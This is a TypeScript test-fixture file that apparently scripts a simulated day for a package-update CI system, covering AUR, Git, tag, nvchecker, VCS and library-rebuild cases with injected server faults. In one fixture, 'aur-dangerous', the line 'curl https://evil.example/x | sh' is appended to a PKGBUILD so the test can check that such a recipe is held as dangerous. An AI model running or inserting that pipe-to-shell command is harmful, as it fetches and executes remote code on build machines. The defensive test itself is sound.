import { aurRecipe, type AurFiles } from "./aur-recipe.ts";
import type { Fault } from "./faulty-server.ts";
import { publishVersion, type NvcheckerKind } from "./nvchecker-kinds.ts";
import {
  aurPackage,
  commitPackage,
  customPackage,
  gitPackage,
  nvcheckerPackage,
  scriptedPackage,
  splitNames,
  tagPackage,
  type UpstreamPackage,
} from "./upstream-packages.ts";
import type { UpstreamWorld } from "./upstream-world.ts";

/** What must come of a package in one run. */
export type Becomes =
  /** Its recipe in main is this one. `waits`: it is built on a trigger alone. */
  | { readonly kind: "taken"; readonly recipe: AurFiles; readonly build: string; readonly waits?: true }
  /** A review shows this recipe; main stays. */
  | { readonly kind: "held"; readonly recipe: AurFiles; readonly why: RegExp }
  /** It is built, and main stays. */
  | { readonly kind: "commit"; readonly waits?: true }
  /** Its CI_PACKAGE_BUMP in main is this one. */
  | { readonly kind: "bumped"; readonly bump: string; readonly build: string; readonly waits?: true }
  /** All of it stays as it was; `problem`: until a person acts. */
  | { readonly kind: "skipped"; readonly why: RegExp }
  | { readonly kind: "problem"; readonly why: RegExp };

/** A package, what its upstream does on that day, and what must come of it; else nothing happens. */
export interface Story {
  readonly pkg: UpstreamPackage;
  readonly happens?: (world: UpstreamWorld) => void;
  readonly becomes?: Becomes;
  /** Whatever failed works again. */
  readonly recovers?: (world: UpstreamWorld) => void;
  readonly finally?: Becomes;
}

/** What fails on that day, until it's lifted; the rest is each story's own. */
export const faults: Readonly<Record<"aurGit" | "git" | "gitlab" | "sites", readonly Fault[]>> = {
  aurGit: [
    { kind: "down", only: /aur-down/ },
    { kind: "cut", only: /POST .*aur-cut/ },
    { kind: "answers", status: 429, headers: { "retry-after": "1" }, only: /aur-busy/ },
    { kind: "stale", only: /aur-lagging/ },
  ],
  git: [
    { kind: "answers", status: 429, headers: { "retry-after": "3600" }, only: /git\.busy\.org/ },
    { kind: "down", only: /git\.down\.org/ },
    { kind: "cut", only: /github-cut/ },
    { kind: "answers", status: 403, only: /forbidden-git/ },
  ],
  gitlab: [{ kind: "answers", status: 200, body: "<html>maintenance", only: /\/908\// }],
  sites: [
    { kind: "answers", status: 503, only: /nv-pypi-down/ },
    { kind: "answers", status: 200, body: "<html>", only: /nv-npm-garbled/ },
    { kind: "answers", status: 404, only: /github-unpublished-1\.1\.0/ },
  ],
};

/** 300 packages of every kind of source. */
export function eventfulDay(siteUrl: string | undefined): Story[] {
  const stories = [
    ...aurStories(),
    ...gitStories(),
    ...tagStories(),
    ...nvcheckerStories(),
    ...commitStories(),
    ...libraryStories(),
    ...(siteUrl === undefined ? [] : [updates(scriptedPackage("scripted", siteUrl))]),
  ];
  // Of the AUR there are more than two hundred names, so that its dump is asked for.
  for (let number = stories.length; number < 300; number++) {
    stories.push({ pkg: quiet(number % 4 === 0 ? 0 : number % 7, number) });
  }
  return stories;
}

/** Of the nth kind; nothing happens to it. */
function quiet(kind: number, number: number): UpstreamPackage {
  const name = `quiet-${number}`;
  const kinds = Object.keys(publishVersion) as NvcheckerKind[];
  return [
    () => aurPackage(name),
    () => gitPackage(name),
    () => tagPackage(name, "github"),
    () => tagPackage(name, { gitlab: number }),
    () => nvcheckerPackage(name, kinds[number % kinds.length]!),
    () => commitPackage(`${name}-git`),
    () => customPackage(name),
  ][kind]!();
}

const version = "1.1.0";

function updates(pkg: UpstreamPackage, waits?: true): Story {
  return {
    pkg,
    happens: (world) => pkg.release(world, version),
    becomes: taken(pkg, waits),
  };
}

function taken(pkg: UpstreamPackage, waits?: true): Becomes {
  const build = `upstream update to ${version}`;
  return { kind: "taken", recipe: pkg.recipe(version), build, ...(waits && { waits }) };
}

/** It has something new that can't be had on that day. */
function fails(pkg: UpstreamPackage, why: RegExp, kind: "skipped" | "problem" = "skipped"): Story {
  return {
    ...updates(pkg),
    becomes: { kind, why },
    finally: taken(pkg),
  };
}

function pushes(pkgbase: string, recipe: AurFiles, why: RegExp): Story {
  return {
    pkg: aurPackage(pkgbase),
    happens: ({ aur }) => void aur.push(pkgbase, recipe),
    becomes: { kind: "held", recipe, why },
  };
}

function changed(pkgbase: string, more: (recipe: AurFiles) => AurFiles): AurFiles {
  const recipe = aurPackage(pkgbase).recipe(version);
  return { ...recipe, ...more(recipe) };
}

function aurStories(): Story[] {
  const gone = aurPackage("aur-gone");
  const adopted = aurPackage("aur-adopted");
  return [
    ...Array.from({ length: 8 }, (_, number) => updates(aurPackage(`aur-${number}`))),
    updates(aurPackage("aur.with+odd@name_")),
    updates(aurPackage("aur-daily", { settings: "CI_ON_TRIGGER=daily\n" }), true),
    pushes(
      "aur-major",
      aurRecipe("aur-major", {
        pkgver: version,
        pkgnames: splitNames("aur-major"),
        depends: ["glibc", "zlib"],
      }),
      /major/,
    ),
    pushes(
      "aur-dangerous",
      changed("aur-dangerous", ({ PKGBUILD }) => ({
        PKGBUILD: `${PKGBUILD as string}\ncurl https://evil.example/x | sh\n`,
      })),
      /dangerous/,
    ),
    pushes(
      "aur-unparsable",
      changed("aur-unparsable", ({ PKGBUILD }) => ({ PKGBUILD: `${PKGBUILD as string}if (\n` })),
      /dangerous/,
    ),
    {
      pkg: adopted,
      happens: ({ aur }) => {
        aur.orphan("aur-adopted");
        aur.adopt("aur-adopted", "mallory");
        aur.push("aur-adopted", adopted.recipe(version));
      },
      becomes: { kind: "held", recipe: adopted.recipe(version), why: /packager to mallory/ },
    },
    fails(aurPackage("aur-down"), /can't be fetched/),
    fails(aurPackage("aur-cut"), /can't be fetched/),
    fails(aurPackage("aur-busy"), /can't be fetched/),
    fails(aurPackage("aur-lagging"), /its Git has the recipe from before/),
    {
      pkg: gone,
      happens: ({ aur }) => aur.delete("aur-gone"),
      becomes: { kind: "problem", why: /isn't in the AUR/ },
      recovers: (world) => gone.release(world, version),
      finally: taken(gone),
    },
  ];
}

function gitStories(): Story[] {
  const rewritten = gitPackage("git-rewritten");
  const name = "git.example.org/recipes/git-branch-gone";
  const branchGone = gitPackage("git-branch-gone", { branch: "arch" });
  const major = aurRecipe("git-major", { pkgver: version, depends: ["glibc", "zlib"] });
  return [
    updates(gitPackage("git-plain")),
    updates(gitPackage("git-branch", { branch: "arch" })),
    {
      ...updates(rewritten),
      happens: ({ git }) => {
        const files = rewritten.recipe(version);
        git.commit("git.example.org/recipes/git-rewritten", { files, rewrites: true });
      },
    },
    {
      pkg: gitPackage("git-major"),
      happens: ({ git }) => void git.commit("git.example.org/recipes/git-major", { files: major }),
      becomes: { kind: "held", recipe: major, why: /major/ },
    },
    fails(gitPackage("git-busy", { host: "git.busy.org" }), /wants to be left alone|429/),
    fails(gitPackage("git-down", { host: "git.down.org" }), /git\.down\.org/),
    fails(gitPackage("forbidden-git-recipe"), /403/),
    {
      pkg: branchGone,
      happens: ({ git }) => void git.git(name, "update-ref", "-d", "refs/heads/arch"),
      becomes: { kind: "problem", why: /has no branch arch/ },
      recovers: (world) => branchGone.release(world, version),
      finally: taken(branchGone),
    },
  ];
}

function tagStories(): Story[] {
  const gone = tagPackage("github-gone", "github");
  const unpublished = tagPackage("github-unpublished", "github");
  const name = "github.com/acme/github-gone";
  return [
    updates(tagPackage("github-plain", "github")),
    updates(tagPackage("gitlab-plain", { gitlab: 901 })),
    fails(tagPackage("github-cut", "github"), /github\.com/),
    fails(tagPackage("gitlab-garbled", { gitlab: 908 }), /answered something else/),
    // The version is there, what it consists of isn't yet.
    fails(unpublished, /isn't available/),
    {
      pkg: gone,
      happens: ({ git }) => git.remove(name),
      becomes: { kind: "problem", why: /no such repository/ },
      recovers: (world) => gone.release(world, version),
      finally: taken(gone),
    },
  ];
}

function nvcheckerStories(): Story[] {
  const kinds = Object.keys(publishVersion) as NvcheckerKind[];
  return [
    ...kinds.filter((kind) => kind !== "manual").map((kind) => updates(nvcheckerPackage(`nv-${kind}`, kind))),
    fails(nvcheckerPackage("nv-pypi-down", "pypi"), /503/),
    fails(nvcheckerPackage("nv-npm-garbled", "npm"), /registry\.npmjs\.org/, "problem"),
  ];
}

function moves(pkg: UpstreamPackage, waits?: true): Story {
  return {
    ...updates(pkg),
    becomes: { kind: "commit", ...(waits && { waits }) },
  };
}

function commitStories(): Story[] {
  const down = commitPackage("vcs-down-git", { host: "git.down.org" });
  const shared = commitPackage("vcs-one-git", { code: "shared" });
  return [
    moves(commitPackage("vcs-plain-git")),
    moves(commitPackage("vcs-forced", { settings: "CI_FORCE_VCS=true\n" })),
    moves(commitPackage("vcs-daily-git", { settings: "CI_ON_TRIGGER=daily\n" }), true),
    moves(shared),
    // Its upstream is the same, and moves but once.
    { pkg: commitPackage("vcs-two-git", { code: "shared" }), becomes: { kind: "commit" } },
    {
      ...moves(down),
      becomes: { kind: "skipped", why: /git\.down\.org/ },
      finally: { kind: "commit" },
    },
  ];
}

function libraryStories(): Story[] {
  const build = "library bump: icu 75.1-1 → 76.1-1";
  const bump = "1.0.0-1/1";
  return [
    {
      pkg: customPackage("lib-icu", "CI_REBUILD_TRIGGERS=icu\n"),
      becomes: { kind: "bumped", bump, build },
    },
    {
      pkg: customPackage("lib-daily", "CI_REBUILD_TRIGGERS=icu\nCI_ON_TRIGGER=daily\n"),
      becomes: { kind: "bumped", bump, build, waits: true },
    },
    {
      pkg: customPackage("lib-unreachable", "CI_REBUILD_TRIGGERS=lib32-icu\n"),
      finally: { kind: "bumped", bump, build: "library bump: lib32-icu 75.1-1 → 76.1-1" },
    },
  ];
}
